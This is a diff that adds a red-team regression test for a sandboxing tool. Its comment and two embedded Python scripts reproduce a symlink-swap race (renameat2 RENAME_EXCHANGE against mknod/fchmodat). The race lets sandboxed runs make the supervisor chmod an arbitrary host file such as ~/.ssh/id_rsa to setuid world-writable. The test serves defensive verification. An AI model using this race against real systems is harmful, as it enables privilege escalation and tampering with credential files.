@@ -247,3 +247,67 @@ describe('red team: deny-read globs and renamed inodes (real kernel)', function 
     });
   }
 });
+
+// Red team rt5: the supervisor makes a FIFO in a carved folder with mkfifoat() and then sets its mode with
+// fchmodat(), which follows a final symlink (notify-addfd.ts: "the name was just made by us ... following is
+// moot"). It is not moot: between the two calls another process can put a link at that name. Within one run
+// the supervisor's worker serialises the script's calls, but two runs on the same workspace have two
+// supervisors: run B swaps (RENAME_EXCHANGE, performed by its supervisor) a link data/s -> ~/.ssh/id_rsa with
+// data/f while run A mknod()s data/f with mode 04777 under umask 0. Run A's supervisor then chmods the link's
+// target, anywhere on the host, with its own rights (a root CLI: any file, CAP_FOWNER). Seen: a root-only
+// 0600 file outside every grant became -rwsrwxrwx within seconds, both tiers.
+describe('red team rt5: the supervisor chmods through a link swapped in by another run (real kernel)', function () {
+  let sb: Sandbox;
+  beforeEach(() => {
+    sb = makeSandbox();
+  });
+  afterEach(() => sb.cleanup());
+
+  const MKNOD_PY = `import os, stat, time, sys
+os.umask(0); end = time.time() + float(sys.argv[1]); n = 0
+while time.time() < end:
+    try: os.mknod('data/f', stat.S_IFIFO | 0o4777)
+    except OSError: pass
+    try: os.unlink('data/f')
+    except OSError: pass
+    n += 1
+print('mknod loops', n)
+`;
+  const SWAP_PY = `import ctypes, os, stat, time, sys
+libc = ctypes.CDLL(None, use_errno=True)
+end = time.time() + float(sys.argv[1]); n = ok = 0
+while time.time() < end:
+    try:
+        if not stat.S_ISLNK(os.lstat('data/s').st_mode): os.unlink('data/s'); raise FileNotFoundError
+    except FileNotFoundError:
+        try: os.symlink(sys.argv[2], 'data/s')
+        except OSError: time.sleep(0.05)
+    # renameat2(AT_FDCWD, data/s, AT_FDCWD, data/f, RENAME_EXCHANGE), x86_64 and aarch64 numbers
+    nr = 316 if os.uname().machine == 'x86_64' else 276
+    if libc.syscall(nr, -100, b'data/s', -100, b'data/f', 2) == 0:
+        ok += 1
+        libc.syscall(nr, -100, b'data/s', -100, b'data/f', 2)
+    n += 1
+print('swaps', n, 'ok', ok)
+`;
+  for (const [tier, env] of TIERS) {
+    it(`--deny-write data/*.key: a FIFO's mode is never set through a link another run swaps in (${tier})`, async function () {
+      this.timeout(150_000);
+      fs.mkdirSync(path.join(sb.workspace, 'data'));
+      fs.chmodSync(sb.workspace, 0o755);
+      const victim = path.join(sb.home, '.ssh', 'id_rsa');
+      fs.chmodSync(victim, 0o600);
+      writeScript(sb.workspace, 'mk.py', MKNOD_PY, 0o644);
+      writeScript(sb.workspace, 'swap.py', SWAP_PY, 0o644);
+      const args = ['--mode', 'enforce', '--deny-write', 'data/*.key'];
+      const [a, b] = await Promise.all([
+        runIn(sb, args, ['python3', 'mk.py', '20'], env),
+        runIn(sb, args, ['python3', 'swap.py', '18', victim], env),
+      ]);
+      const mode = fs.statSync(victim).mode & 0o7777;
+      assert.match(a.stdout, /mknod loops/, a.stdout + a.stderr);
+      assert.match(b.stdout, /swaps/, b.stdout + b.stderr);
+      assert.equal(mode.toString(8), '600', `${victim} (outside every grant) was chmodded by run A's supervisor: ${a.stdout}${b.stdout}`);
+    });
+  }
+});
